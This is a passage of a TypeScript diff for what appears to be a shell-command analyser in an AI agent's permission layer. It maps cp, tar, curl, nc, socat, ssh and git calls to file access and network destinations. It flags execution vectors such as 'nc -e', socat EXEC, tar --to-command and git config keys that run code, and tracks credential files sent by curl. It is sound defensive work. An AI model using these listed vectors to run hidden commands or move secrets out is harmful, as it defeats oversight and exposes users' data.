+  if (p.operands.length < 2) return { sources: p.operands };
+  return { sources: p.operands.slice(0, -1), dest: p.operands[p.operands.length - 1]! };
+}
+
+on(['cp', 'gcp'], (a, inv) => {
+  const p = parseArgs(inv.args, {
+    short: 'tS',
+    long: ['target-directory', 'suffix', 'backup', 'reflink', 'sparse', 'preserve', 'no-preserve', 'context'],
+    groups: [['-r', '-R', '--recursive'], ['-a', '--archive'], ['-f', '--force'], ['-l', '--link'], ['-s', '--symbolic-link'], ['-L', '--dereference']],
+  });
+  emit(a, inv, p);
+  const recursive = has(p, '-r', '--recursive', '-a', '--archive');
+  const { sources, dest } = targetAndSources(p);
+  for (const s of sources) a.path(s, 'read', 'cp source', inv.st, { recursive });
+  if (dest) a.path(dest, 'write', 'cp destination', inv.st, { recursive });
+});
+
+on(['mv', 'gmv'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'tS', long: ['target-directory', 'suffix', 'backup'], groups: [['-f', '--force'], ['-n', '--no-clobber']] });
+  emit(a, inv, p);
+  const { sources, dest } = targetAndSources(p);
+  for (const s of sources) {
+    a.path(s, 'read', 'mv source', inv.st, { recursive: true });
+    a.path(s, 'delete', 'mv source', inv.st, { recursive: true });
+  }
+  if (dest) a.path(dest, 'write', 'mv destination', inv.st, { recursive: true });
+});
+
+on(['install', 'ginstall'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'gmotS', long: ['group', 'mode', 'owner', 'target-directory', 'suffix'], groups: [['-d', '--directory']] });
+  emit(a, inv, p);
+  if (has(p, '-d', '--directory')) {
+    for (const o of p.operands) a.path(o, 'write', 'install -d', inv.st);
+    return;
+  }
+  const { sources, dest } = targetAndSources(p);
+  readAll(a, inv, sources, 'install source');
+  if (dest) a.path(dest, 'write', 'install destination', inv.st);
+});
+
+on(['ln', 'gln'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'tS', long: ['target-directory', 'suffix', 'backup'], groups: [['-s', '--symbolic'], ['-f', '--force'], ['-r', '--relative'], ['-T', '--no-target-directory']] });
+  emit(a, inv, p);
+  const symbolic = has(p, '-s', '--symbolic');
+  const t = value(p, '-t', '--target-directory');
+  const targets = t || p.operands.length > 1 ? (t ? p.operands : p.operands.slice(0, -1)) : p.operands;
+  const linkArg = t ? undefined : p.operands.length > 1 ? p.operands[p.operands.length - 1] : undefined;
+  for (const target of targets) {
+    a.path(target, 'read', symbolic ? 'ln -s target' : 'ln target (hard link)', inv.st);
+    let linkPath: string;
+    const cwd = a.cwdList(inv.st)[0]!;
+    if (linkArg && !linkArg.dynamic) {
+      linkPath = resolveLexical(cwd, linkArg.text);
+      if (a.env.fs?.isDir?.(linkPath) && !has(p, '-T')) linkPath = `${linkPath}/${basename(target.text)}`;
+    } else if (t && !t.dynamic) linkPath = `${resolveLexical(cwd, t.text)}/${basename(target.text)}`;
+    else linkPath = resolveLexical(cwd, linkArg?.text ?? basename(target.text));
+    a.path(f(linkPath), 'write', 'ln link name', inv.st);
+    if (!target.dynamic) {
+      const linkDir = linkPath.slice(0, linkPath.lastIndexOf('/')) || '/';
+      const resolved = symbolic && !has(p, '-r', '--relative') ? resolveLexical(linkDir, target.text) : resolveLexical(cwd, target.text);
+      inv.st.links.set(linkPath, resolved);
+    }
+  }
+});
+
+on('dd', (a, inv) => {
+  emit(a, inv, parseArgs([]));
+  for (const x of inv.args) {
+    const m = /^(if|of)=(.*)$/s.exec(x.text);
+    if (m) a.path({ ...x, text: m[2]! }, m[1] === 'if' ? 'read' : 'write', `dd ${m[1]}=`, inv.st);
+  }
+});
+
+on(['vi', 'vim', 'nvim', 'nano', 'emacs', 'ed', 'ex', 'code', 'subl', 'micro', 'joe', 'pico', 'kak', 'hx', 'helix', 'gedit', 'kate', 'mg', 'vimdiff', 'cursor', 'sublime_text'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'cSuiTWwsOopq', long: ['cmd', 'eval', 'load', 'user-data-dir', 'extensions-dir', 'install-extension'] });
+  emit(a, inv, p);
+  const cmds = [...allValues(p, '-c', '--cmd', '--eval', '-S'), ...p.operands.filter((o) => o.text.startsWith('+'))];
+  for (const c of cmds) if (/!|system|shell|:r\s*!/.test(c.text)) a.risk('interpreter-inline-exec', `${inv.program} command ${c.text}`);
+  for (const o of p.operands) {
+    if (o.text.startsWith('+')) continue;
+    a.path(o, 'read', `${inv.program} file`, inv.st);
+    a.path(o, 'write', `${inv.program} file`, inv.st);
+  }
+});
+
+// ── archives and compression ────────────────────────────────────────────
+
+on(['tar', 'gtar', 'bsdtar'], (a, inv) => {
+  let args = inv.args;
+  if (args[0] && !args[0].text.startsWith('-') && /^[A-Za-z]+$/.test(args[0].text)) args = [f('-' + args[0].text), ...args.slice(1)];
+  const p = parseArgs(args, {
+    short: 'fCTXbHIKLNV',
+    long: ['file', 'directory', 'files-from', 'exclude-from', 'exclude', 'to-command', 'use-compress-program', 'checkpoint-action', 'info-script', 'new-volume-script', 'rsh-command', 'owner', 'group', 'mode', 'transform', 'xform', 'format', 'newer', 'after-date', 'label', 'index-file'],
+    groups: [['-c', '--create'], ['-x', '--extract', '--get'], ['-t', '--list'], ['-r', '--append'], ['-u', '--update'], ['-d', '--diff', '--compare'], ['-A', '--catenate', '--concatenate']],
+  });
+  emit(a, inv, p);
+  for (const opt of ['--to-command', '--use-compress-program', '-I', '--checkpoint-action', '--info-script', '--new-volume-script', '--rsh-command']) {
+    for (const v of allValues(p, opt)) {
+      a.risk('interpreter-inline-exec', `tar ${opt} runs ${v.text}`);
+      const cmdText = v.text.replace(/^exec=/, '');
+      runText(a, inv, { ...v, text: cmdText }, `tar ${opt}`);
+    }
+  }
+  const archive = value(p, '-f', '--file');
+  const dir = value(p, '-C', '--directory');
+  for (const ff of allValues(p, '-T', '--files-from', '-X', '--exclude-from')) a.path(ff, 'read', 'tar list file', inv.st);
+  const st = dir ? stateIn(a, inv.st, dir) : inv.st;
+  if (has(p, '-c', '--create', '-r', '--append', '-u', '--update')) {
+    if (archive && archive.text !== '-') a.path(archive, 'write', 'tar archive', inv.st);
+    for (const o of p.operands) a.path(o, 'read', 'tar member', st, { recursive: true });
+  } else if (has(p, '-x', '--extract', '--get')) {
+    if (archive && archive.text !== '-') a.path(archive, 'read', 'tar archive', inv.st);
+    if (p.operands.length) for (const o of p.operands) a.path(o, 'write', 'tar extract', st, { recursive: true });
+    else a.path(f(DYN), 'write', 'tar extract', st);
+  } else if (archive && archive.text !== '-') a.path(archive, 'read', 'tar archive', inv.st);
+});
+
+function stateIn(a: ShellAnalyzer, st: State, dir: Field): State {
+  const s = a.clone(st);
+  a.setCwd(s, { v: a.cwdList(st).map((b) => resolveLexical(b, dir.text)), dyn: dir.dynamic || st.cwd.dyn });
+  return s;
+}
+
+on(['zip'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'bnPtxiIZTU', long: ['temp-path', 'suffixes', 'password', 'unzip-command', 'exclude', 'include'], groups: [['-r', '--recurse-paths']] });
+  emit(a, inv, p);
+  const tt = allValues(p, '-TT', '--unzip-command');
+  for (const v of tt) runText(a, inv, v, 'zip --unzip-command');
+  if (inv.args.some((x) => x.text === '-TT')) a.risk('interpreter-inline-exec', 'zip -TT runs a command');
+  const [archive, ...files] = p.operands;
+  if (archive) a.path(archive, 'write', 'zip archive', inv.st);
+  readAll(a, inv, files, 'zip member', has(p, '-r', '--recurse-paths'));
+});
+
+on(['unzip', '7z', '7za', '7zr', 'unrar', 'rar'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: inv.program === 'unzip' ? 'dxP' : '', singleDashLong: inv.program !== 'unzip' });
+  emit(a, inv, p);
+  let ops = p.operands;
+  if (inv.program !== 'unzip' && ops[0] && /^[a-z]$/.test(ops[0].text)) {
+    const mode = ops[0].text;
+    ops = ops.slice(1);
+    const [archive, ...files] = ops;
+    if (mode === 'a' || mode === 'u') {
+      if (archive) a.path(archive, 'write', `${inv.program} archive`, inv.st);
+      readAll(a, inv, files, `${inv.program} member`, true);
+      return;
+    }
+    if (archive) a.path(archive, 'read', `${inv.program} archive`, inv.st);
+    if (mode === 'x' || mode === 'e') {
+      const out = inv.args.find((x) => x.text.startsWith('-o'));
+      a.path(f(`${out ? out.text.slice(2) : '.'}/${DYN}`), 'write', `${inv.program} extract`, inv.st);
+    }
+    return;
+  }
+  const [archive] = ops;
+  if (archive) a.path(archive, 'read', `${inv.program} archive`, inv.st);
+  if (!has(p, '-l', '-p', '-t', '-v', '-Z')) {
+    const d = value(p, '-d');
+    a.path(f(`${d ? d.text : '.'}/${DYN}`), 'write', `${inv.program} extract`, inv.st);
+  }
+});
+
+on(['gzip', 'gunzip', 'bzip2', 'bunzip2', 'xz', 'unxz', 'zstd', 'unzstd', 'lz4', 'lzma', 'unlzma', 'compress', 'uncompress', 'brotli', 'pigz', 'pbzip2'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'SobTL', long: ['suffix', 'output', 'threads', 'memlimit'], groups: [['-c', '--stdout', '--to-stdout'], ['-k', '--keep'], ['-d', '--decompress', '--uncompress']] });
+  emit(a, inv, p);
+  const toStdout = has(p, '-c', '--stdout');
+  for (const o of p.operands) {
+    a.path(o, 'read', `${inv.program} input`, inv.st);
+    if (!toStdout) {
+      a.path({ ...o, glob: o.text.replace(/[*?[\]\\]/g, '\\$&') + '*' }, 'write', `${inv.program} output`, inv.st);
+      if (!has(p, '-k', '--keep')) a.path(o, 'delete', `${inv.program} replaces input`, inv.st);
+    }
+  }
+  for (const out of allValues(p, '-o', '--output')) a.path(out, 'write', `${inv.program} --output`, inv.st);
+});
+
+// ── scheduling and persistence ──────────────────────────────────────────
+
+on('crontab', (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'uT' });
+  emit(a, inv, p);
+  const user = value(p, '-u')?.text ?? a.env.user;
+  const store = `/var/spool/cron/crontabs/${user}`;
+  if (has(p, '-l', '-T')) return;
+  if (has(p, '-r')) return a.path(f(store), 'delete', 'crontab -r', inv.st);
+  const file = p.operands[0];
+  if (file && file.text !== '-') a.path(file, 'read', 'crontab file', inv.st);
+  a.path(f(store), 'write', has(p, '-e') ? 'crontab -e' : 'crontab install', inv.st);
+});
+
+on(['at', 'batch'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'qftM' });
+  emit(a, inv, p);
+  const file = value(p, '-f');
+  if (file) a.path(file, 'read', `${inv.program} -f`, inv.st);
+  if (!has(p, '-l', '-r', '-d', '-c')) {
+    a.path(f('/var/spool/cron/atjobs'), 'write', `${inv.program} job`, inv.st, { recursive: true });
+    executeSource(a, inv, classifyStdin(inv.stdin), inv.program, 'shell');
+  }
+});
+
+// ── network ─────────────────────────────────────────────────────────────
+
+const CURL_VALUE = [
+  'output', 'data', 'data-binary', 'data-raw', 'data-ascii', 'data-urlencode', 'form', 'form-string', 'upload-file', 'config', 'header',
+  'user', 'request', 'user-agent', 'referer', 'cookie', 'cookie-jar', 'url', 'proxy', 'resolve', 'connect-to', 'write-out', 'max-time',
+  'retry', 'cert', 'key', 'cacert', 'capath', 'dump-header', 'trace', 'trace-ascii', 'stderr', 'netrc-file', 'output-dir', 'unix-socket',
+  'json', 'variable', 'expand-url', 'expand-data', 'interface', 'local-port', 'range', 'continue-at', 'speed-limit', 'speed-time',
+  'limit-rate', 'max-filesize', 'connect-timeout', 'oauth2-bearer', 'pass', 'proxy-user', 'preproxy', 'socks5', 'socks5-hostname', 'etag-save',
+  'etag-compare', 'hsts', 'alt-svc', 'proto', 'proto-redir', 'mail-from', 'mail-rcpt', 'ftp-port', 'quote', 'request-target', 'aws-sigv4',
+];
+
+on(['curl', 'curlie'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'odFTKHuXAebcxwmyYrCEDz', long: CURL_VALUE });
+  emit(a, inv, p);
+  const urls = [...p.operands, ...allValues(p, '--url')].filter((x) => x.text);
+  let sends: UrlFact['sends'] | undefined;
+  const mark = (s: NonNullable<UrlFact['sends']>): void => {
+    const rank = { literal: 0, stdin: 1, env: 2, substitution: 3, file: 4 };
+    if (!sends || rank[s] > rank[sends]) sends = s;
+  };
+  for (const d of allValues(p, '-d', '--data', '--data-binary', '--data-ascii', '--data-urlencode', '--json')) {
+    const at = d.text.indexOf('@');
+    if (at === 0 || (at > 0 && /^[\w-]*=?@/.test(d.text.slice(0, at + 1)) && !d.text.slice(0, at).includes(' '))) {
+      const file = d.text.slice(at + 1);
+      if (file === '-') mark(stdinSends(inv.stdin) ?? 'stdin');
+      else {
+        a.path({ ...d, text: file }, 'read', 'curl data file', inv.st);
+        mark('file');
+      }
+    } else mark(sendsOf(d));
+  }
+  for (const d of allValues(p, '--data-raw', '--form-string')) mark(sendsOf(d));
+  for (const form of allValues(p, '-F', '--form')) {
+    const m = /^[^=]*=[@<](.*?)(;.*)?$/.exec(form.text);
+    if (m) {
+      a.path({ ...form, text: m[1]! }, 'read', 'curl form file', inv.st);
+      mark('file');
+    } else mark(sendsOf(form));
+  }
+  for (const up of allValues(p, '-T', '--upload-file')) {
+    if (up.text === '-' || up.text === '.') mark(stdinSends(inv.stdin) ?? 'stdin');
+    else {
+      a.path(up, 'read', 'curl upload file', inv.st);
+      mark('file');
+    }
+  }
+  for (const cfg of allValues(p, '-K', '--config')) {
+    a.path(cfg, 'read', 'curl config file', inv.st);
+    mark('file');
+  }
+  for (const h of allValues(p, '-H', '--header', '-u', '--user', '-b', '--cookie', '--oauth2-bearer', '--aws-sigv4')) {
+    if (h.text.startsWith('@')) {
+      a.path({ ...h, text: h.text.slice(1) }, 'read', 'curl header file', inv.st);
+      mark('file');
+    } else if (h.dynamic || h.from) mark(sendsOf(h));
+  }
+  for (const u of urls) if (u.from?.subst || (u.dynamic && u.from)) mark(sendsOf(u));
+  for (const o of allValues(p, '-o', '--output', '-D', '--dump-header', '--trace', '--trace-ascii', '--stderr', '-c', '--cookie-jar', '--etag-save')) {
+    if (o.text !== '-') a.path(o, 'write', 'curl output', inv.st);
+  }
+  for (const r of allValues(p, '-E', '--cert', '--key', '--cacert', '--netrc-file')) a.path(r, 'read', 'curl credential file', inv.st);
+  if (has(p, '-O', '--remote-name', '--remote-name-all')) {
+    const dir = value(p, '--output-dir');
+    for (const u of urls) {
+      const name = basename(u.text.replace(/[?#].*$/, '')) || DYN;
+      a.path(f(dir ? `${dir.text}/${name}` : name), 'write', 'curl -O', inv.st);
+    }
+  }
+  if (!urls.length) return;
+  for (const u of urls) addUrl(a, inv, u.text, 'curl', sends);
+});
+
+on(['wget', 'wget2'], (a, inv) => {
+  const p = parseArgs(inv.args, {
+    short: 'OoaPieTtwQUlAR',
+    long: ['output-document', 'output-file', 'append-output', 'directory-prefix', 'input-file', 'post-file', 'post-data', 'body-file', 'body-data', 'load-cookies', 'save-cookies', 'certificate', 'private-key', 'ca-certificate', 'execute', 'header', 'user', 'password', 'method', 'user-agent', 'referer', 'tries', 'timeout', 'wait', 'quota', 'level', 'accept', 'reject', 'base', 'config'],
+  });
+  emit(a, inv, p);
+  let sends: UrlFact['sends'] | undefined;
+  for (const pf of allValues(p, '--post-file', '--body-file')) {
+    a.path(pf, 'read', 'wget upload file', inv.st);
+    sends = 'file';
+  }
+  for (const d of allValues(p, '--post-data', '--body-data', '--header')) if (!sends || d.from) sends = sends === 'file' ? 'file' : sendsOf(d);
+  for (const i of allValues(p, '-i', '--input-file', '--load-cookies', '--certificate', '--private-key', '--config')) a.path(i, 'read', 'wget input', inv.st);
+  for (const e of allValues(p, '-e', '--execute')) a.risk('interpreter-inline', `wget -e ${e.text}`);
+  for (const o of allValues(p, '-O', '--output-document', '-o', '--output-file', '-a', '--append-output', '--save-cookies')) if (o.text !== '-') a.path(o, 'write', 'wget output', inv.st);
+  const prefix = value(p, '-P', '--directory-prefix');
+  if (prefix) a.path(f(`${prefix.text}/${DYN}`), 'write', 'wget -P', inv.st);
+  else if (!p.values.has('-O') && !p.values.has('--output-document')) {
+    for (const u of p.operands) a.path(f(basename(u.text.replace(/[?#].*$/, '')) || 'index.html'), 'write', 'wget download', inv.st);
+  }
+  for (const u of p.operands) addUrl(a, inv, u.text, 'wget', sends ?? (u.from?.subst ? 'substitution' : undefined));
+});
+
+on(['http', 'https', 'xh', 'xhs'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'aAo', long: ['auth', 'auth-type', 'output', 'session', 'verify', 'cert', 'cert-key'] });
+  emit(a, inv, p);
+  const ops = p.operands.filter((o) => !/^(GET|POST|PUT|PATCH|DELETE|HEAD|OPTIONS)$/.test(o.text));
+  const [url, ...items] = ops;
+  let sends: UrlFact['sends'] | undefined;
+  for (const it of items) {
+    const m = /^[^:=@]+(?::=@|=@|@)(.+)$/.exec(it.text);
+    if (m) {
+      a.path({ ...it, text: m[1]! }, 'read', `${inv.program} file field`, inv.st);
+      sends = 'file';
+    } else if (/[:=]/.test(it.text)) sends ??= sendsOf(it);
+  }
+  if (inv.stdin.kind !== 'none') sends ??= stdinSends(inv.stdin);
+  if (url) addUrl(a, inv, url.text.replace(/^:/, 'localhost:'), inv.program, sends, inv.program === 'https' || inv.program === 'xhs' ? 'https' : 'http');
+});
+
+function hostPort(a: ShellAnalyzer, inv: Invocation, host: Field | undefined, port: Field | undefined, via: string, sends?: UrlFact['sends']): void {
+  if (!host) return;
+  const h = host.text;
+  addUrl(a, inv, `tcp://${h.includes(':') && !h.startsWith('[') ? `[${h}]` : h}${port ? `:${port.text}` : ''}`, via, sends);
+}
+
+on(['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'ecIiOpPqsTwXxBgGKmMoRSy', long: ['exec', 'sh-exec', 'lua-exec', 'proxy', 'source', 'output', 'wait'] });
+  emit(a, inv, p);
+  for (const e of allValues(p, '-e', '--exec')) {
+    a.risk('interpreter-inline-exec', `${inv.program} -e ${e.text} connects a program to the network`);
+    a.exec([e], inv.st, { env: inv.env, stdin: { kind: 'none' }, via: [...inv.via, `${inv.program} -e`], depth: inv.depth + 1 });
+  }
+  for (const c of allValues(p, '-c', '--sh-exec')) {
+    a.risk('interpreter-inline-exec', `${inv.program} -c ${c.text} connects a shell command to the network`);
+    runText(a, inv, c, `${inv.program} -c`);
+  }
+  const out = value(p, '-o', '--output');
+  if (out) a.path(out, 'write', `${inv.program} --output`, inv.st);
+  if (has(p, '-l', '--listen')) {
+    addUrl(a, inv, `tcp://0.0.0.0${p.operands[0] ? `:${p.operands[p.operands.length - 1]!.text}` : ''}`, `${inv.program} -l`, stdinSends(inv.stdin));
+    return;
+  }
+  const [host, port] = p.operands;
+  hostPort(a, inv, host, port ?? value(p, '-p'), inv.program, stdinSends(inv.stdin));
+});
+
+on(['telnet'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'bBeElnX' });
+  emit(a, inv, p);
+  hostPort(a, inv, p.operands[0], p.operands[1], 'telnet', stdinSends(inv.stdin));
+});
+
+on('socat', (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'dDlLbT' });
+  emit(a, inv, p);
+  let sends: UrlFact['sends'] | undefined;
+  const addresses = p.operands;
+  for (const addr of addresses) {
+    const m = /^([A-Za-z0-9-]+)[:,]?(.*)$/.exec(addr.text);
+    const type = (m?.[1] ?? addr.text).toUpperCase();
+    const rest = m?.[2] ?? '';
+    if (type === 'EXEC' || type === 'SYSTEM') {
+      a.risk('interpreter-inline-exec', `socat ${type} connects a program to the network`);
+      runText(a, inv, { ...addr, text: rest.split(',')[0]! }, `socat ${type}`);
+    } else if (['OPEN', 'FILE', 'GOPEN', 'CREATE', 'CREAT', 'PIPE'].includes(type)) {
+      const file = rest.split(',')[0]!;
+      a.path({ ...addr, text: file }, type === 'CREATE' || type === 'CREAT' ? 'write' : 'read', `socat ${type}`, inv.st);
+      if (type !== 'CREATE' && type !== 'CREAT') sends = 'file';
+      if (type === 'OPEN' || type === 'GOPEN') a.path({ ...addr, text: file }, 'write', `socat ${type}`, inv.st);
+    } else if (addr.text === '-' || type === 'STDIN' || type === 'STDIO') sends ??= stdinSends(inv.stdin);
+  }
+  for (const addr of addresses) {
+    const m = /^(TCP|TCP4|TCP6|UDP|UDP4|UDP6|SSL|OPENSSL|TCP-CONNECT|UDP-SENDTO)[:](\[?[^:\]]+\]?):(\d+)/i.exec(addr.text);
+    if (m) addUrl(a, inv, `tcp://${m[2]}:${m[3]}`, 'socat', sends);
+  }
+});
+
+function remoteSpec(t: string): { host: string; path: string } | null {
+  if (/^rsync:\/\//.test(t) || /^scp:\/\/|^sftp:\/\//.test(t)) {
+    const u = /^\w+:\/\/(?:[^@/]*@)?([^/:]+)(?::\d+)?(\/.*)?$/.exec(t);
+    return u ? { host: u[1]!, path: u[2] ?? '/' } : null;
+  }
+  const m = /^(?:[^@/:\s]+@)?(\[[^\]]+\]|[^/:\s]+):{1,2}(.*)$/.exec(t);
+  if (!m || t.startsWith('/') || t.startsWith('.') || /^[A-Za-z]:[\\/]/.test(t)) return null;
+  return { host: m[1]!.replace(/^\[|\]$/g, ''), path: m[2]! };
+}
+
+on(['scp', 'rsync', 'sftp'], (a, inv) => {
+  const short = inv.program === 'scp' ? 'cFiJloPSDX' : inv.program === 'sftp' ? 'BbcDFiJloPRSsX' : 'eBfTM';
+  const p = parseArgs(inv.args, {
+    short,
+    long: ['rsh', 'rsync-path', 'exclude', 'include', 'files-from', 'password-file', 'log-file', 'filter', 'temp-dir', 'partial-dir', 'backup-dir', 'chmod', 'port', 'timeout', 'compare-dest', 'link-dest', 'copy-dest', 'exclude-from', 'include-from', 'out-format', 'chown', 'usermap', 'groupmap', 'block-size', 'max-size', 'min-size', 'bwlimit', 'suffix', 'info', 'debug', 'sockopts', 'contimeout', 'address', 'outbuf', 'remote-option'],
+    groups: [['-r', '--recursive'], ['-a', '--archive']],
+  });
+  emit(a, inv, p);
+  for (const e of allValues(p, '-e', '--rsh', '--rsync-path', '-S')) a.risk('interpreter-inline-exec', `${inv.program} runs ${e.text} as its transport`);
+  for (const o of allValues(p, '-o')) if (/^(Proxy|Local|Permit)?Command|ProxyCommand|LocalCommand/i.test(o.text)) a.risk('interpreter-inline-exec', `${inv.program} -o ${o.text}`);
+  for (const r of allValues(p, '--files-from', '--password-file', '--exclude-from', '--include-from', '-F', '-b')) a.path(r, 'read', `${inv.program} option file`, inv.st);
+  for (const w of allValues(p, '--log-file')) a.path(w, 'write', `${inv.program} --log-file`, inv.st);
+  const ops = p.operands;
+  if (inv.program === 'sftp') {
+    if (ops[0]) addUrl(a, inv, `sftp://${(remoteSpec(ops[0].text)?.host ?? ops[0].text).replace(/^[^@]*@/, '')}`, 'sftp', stdinSends(inv.stdin));
+    return;
+  }
+  if (ops.length < 2) return;
+  const recursive = inv.program === 'rsync' ? has(p, '-r', '--recursive', '-a', '--archive') : has(p, '-r');
+  const dest = ops[ops.length - 1]!;
+  const sources = ops.slice(0, -1);
+  const destRemote = remoteSpec(dest.text);
+  const localSources = sources.filter((s) => !remoteSpec(s.text));
+  for (const s of sources) {
+    const r = remoteSpec(s.text);
+    if (r) addUrl(a, inv, `${inv.program === 'rsync' ? 'rsync' : 'ssh'}://${r.host}`, inv.program);
+    else a.path(s, 'read', `${inv.program} source`, inv.st, { recursive });
+  }
+  if (destRemote) addUrl(a, inv, `${inv.program === 'rsync' ? 'rsync' : 'ssh'}://${destRemote.host}`, inv.program, localSources.length ? 'file' : undefined);
+  else {
+    a.path(dest, 'write', `${inv.program} destination`, inv.st, { recursive: true });
+    if (inv.program === 'rsync' && p.flags.some((x) => x.startsWith('--delete'))) a.path(dest, 'delete', 'rsync --delete', inv.st, { recursive: true });
+  }
+});
+
+on(['ssh', 'mosh', 'autossh'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'BbcDEeFIiJLlmOoPpQRSWwM', stopAtOperand: true });
+  emit(a, inv, p);
+  for (const o of allValues(p, '-o')) if (/^(ProxyCommand|LocalCommand|KnownHostsCommand|PermitLocalCommand)/i.test(o.text)) a.risk('interpreter-inline-exec', `ssh -o ${o.text}`);
+  for (const cfg of allValues(p, '-F')) a.path(cfg, 'read', 'ssh config', inv.st);
+  const [dest, ...remote] = p.rest;
+  if (!dest) return;
+  const host = dest.text.replace(/^ssh:\/\//, '').replace(/^[^@]*@/, '').replace(/[:/].*$/, '');
+  addUrl(a, inv, `ssh://${host}`, 'ssh', remote.length ? sendsOf(remote[0]!) : stdinSends(inv.stdin));
+});
+
+on(['ftp', 'tftp', 'lftp', 'ncftp', 'ftps'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'PpuecfE' });
+  emit(a, inv, p);
+  for (const o of p.operands) if (!/^\d+$/.test(o.text)) addUrl(a, inv, o.text, inv.program, stdinSends(inv.stdin), 'ftp');
+});
+
+on(['ping', 'ping6', 'dig', 'nslookup', 'host', 'traceroute', 'tracepath', 'mtr', 'whois', 'nmap', 'getent'], (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'cWiIsStpfqbxyk' });
+  emit(a, inv, p);
+  for (const o of p.operands) if (!/^\d+$/.test(o.text) && !o.text.startsWith('@') && o.text !== 'hosts') addUrl(a, inv, o.text, inv.program, undefined, 'dns');
+});
+
+// ── version control ─────────────────────────────────────────────────────
+
+const GIT_EXEC_KEYS = /^(core\.(pager|editor|sshcommand|hookspath|fsmonitor|gitproxy|askpass)|sequence\.editor|diff\.external|diff\..+\.(textconv|command)|merge\..+\.driver|filter\..+\.(clean|smudge|process)|credential\.helper|credential\..+\.helper|gpg\.program|gpg\..+\.program|alias\..+|uploadpack\.packobjectshook|interactive\.difffilter|pager\..+|web\.browser|browser\..+\.cmd|man\..+\.cmd|remote\..+\.(uploadpack|receivepack)|core\.alternaterefscommand|protocol\.ext\.allow)$/i;
+
+on('git', (a, inv) => gitCommand(a, inv, inv.args, inv.st, new Map(), 0));
+
+function gitCommand(a: ShellAnalyzer, inv: Invocation, args: Field[], stIn: State, aliases: Map<string, Field>, aliasDepth: number): void {
+  let st = stIn;
+  let i = 0;
+  const globalFlags: string[] = [];
+  for (; i < args.length; i++) {
+    const t = args[i]!.text;
+    if (t === '-C' && args[i + 1]) {
+      st = stateIn(a, st, args[++i]!);
+      globalFlags.push('-C');
+    } else if (t === '-c' && args[i + 1]) {
+      gitConfigValue(a, inv, args[++i]!, aliases);
+      globalFlags.push('-c');
+    } else if (/^--(git-dir|work-tree|namespace|exec-path|config-env|super-prefix|list-cmds|attr-source)(=|$)/.test(t)) {
+      globalFlags.push(t.replace(/=.*/, ''));
+      const val = t.includes('=') ? f(t.slice(t.indexOf('=') + 1)) : t === '--exec-path' ? undefined : args[++i];
+      if (t.startsWith('--exec-path') && val) a.risk('git-config-exec', `git --exec-path=${val.text} replaces git's helper programs`);
+      if (t.startsWith('--config-env') && val) gitConfigValue(a, inv, val, aliases);
+    } else if (t.startsWith('-')) globalFlags.push(t);
+    else break;
+  }
+  const subArgs = args.slice(i + 1);
+  const sub = args[i];
+  if (!sub) {
+    a.command({ program: 'git', invokedAs: inv.invokedAs, args: args.map((x) => x.text), subcommand: [], flags: globalFlags, operands: [], via: inv.via, env: inv.env, depth: inv.depth });
+    return;
+  }
+  const alias = aliases.get(sub.text);
+  if (alias && aliasDepth < 4) {
+    if (alias.text.startsWith('!')) {
+      a.risk('git-config-exec', `git alias ${sub.text} runs a shell command`);
+      runText(a, { ...inv, st }, { ...alias, text: [alias.text.slice(1), ...subArgs.map((x) => shellQuote(x.text))].join(' ') }, `git alias ${sub.text}`);
+      return;
+    }
+    const expanded = alias.text.split(/\s+/).filter(Boolean).map(f);
+    gitCommand(a, inv, [...expanded, ...subArgs], st, aliases, aliasDepth + 1);
+    return;
+  }
+  const handler = GIT_SUBCOMMANDS[sub.text];
+  const ctx: GitCtx = { a, inv, st, sub: sub.text, args: subArgs, globalFlags };
+  if (handler) handler(ctx);
+  else gitGeneric(ctx, {});
+}
+
+function gitConfigValue(a: ShellAnalyzer, inv: Invocation, kv: Field, aliases: Map<string, Field>): void {
+  const eq = kv.text.indexOf('=');
+  const key = (eq < 0 ? kv.text : kv.text.slice(0, eq)).toLowerCase();
+  const val = eq < 0 ? '' : kv.text.slice(eq + 1);
+  if (GIT_EXEC_KEYS.test(key)) a.risk('git-config-exec', `git -c ${key}=${val}`);
+  if (key.startsWith('alias.')) aliases.set(kv.text.slice(6, eq < 0 ? undefined : eq), { ...kv, text: val });
+  else if (GIT_EXEC_KEYS.test(key) && val && !/^(true|false|\d+)$/.test(val) && key !== 'core.hookspath') {
+    runText(a, inv, { ...kv, text: val.replace(/^!/, '') }, `git config ${key}`);
+  }
+}
+
+interface GitCtx {
+  a: ShellAnalyzer;
+  inv: Invocation;
+  st: State;
+  sub: string;
+  args: Field[];
+  globalFlags: string[];
+}
+
+function gitEmit(c: GitCtx, p: ParsedArgs, subcommand: string[], extraFlags: string[] = []): void {
+  c.a.command({
+    program: 'git',
+    invokedAs: c.inv.invokedAs,
+    args: c.inv.args.map((x) => x.text),
+    subcommand,
+    flags: [...new Set([...c.globalFlags, ...p.flags, ...extraFlags])],
+    operands: p.operands.map((x) => x.text),
+    via: c.inv.via,
+    env: c.inv.env,
+    depth: c.inv.depth,
+  });
+}
+
+function gitGeneric(c: GitCtx, spec: OptSpec, pathAccess?: 'read' | 'write' | 'delete'): ParsedArgs {
+  const p = parseArgs(c.args, spec);
+  gitEmit(c, p, [c.sub]);
+  if (pathAccess) for (const o of p.afterDashDash.length ? p.afterDashDash : p.operands) c.a.path(o, pathAccess, `git ${c.sub} path`, c.st);
+  else for (const o of p.afterDashDash) c.a.path(o, 'read', `git ${c.sub} path`, c.st);
+  return p;
+}
+
+function repoRoot(c: GitCtx): string {
+  return c.a.env.vars.CLAUDE_PROJECT_DIR ?? c.a.cwdList(c.st)[0]!;
+}
+
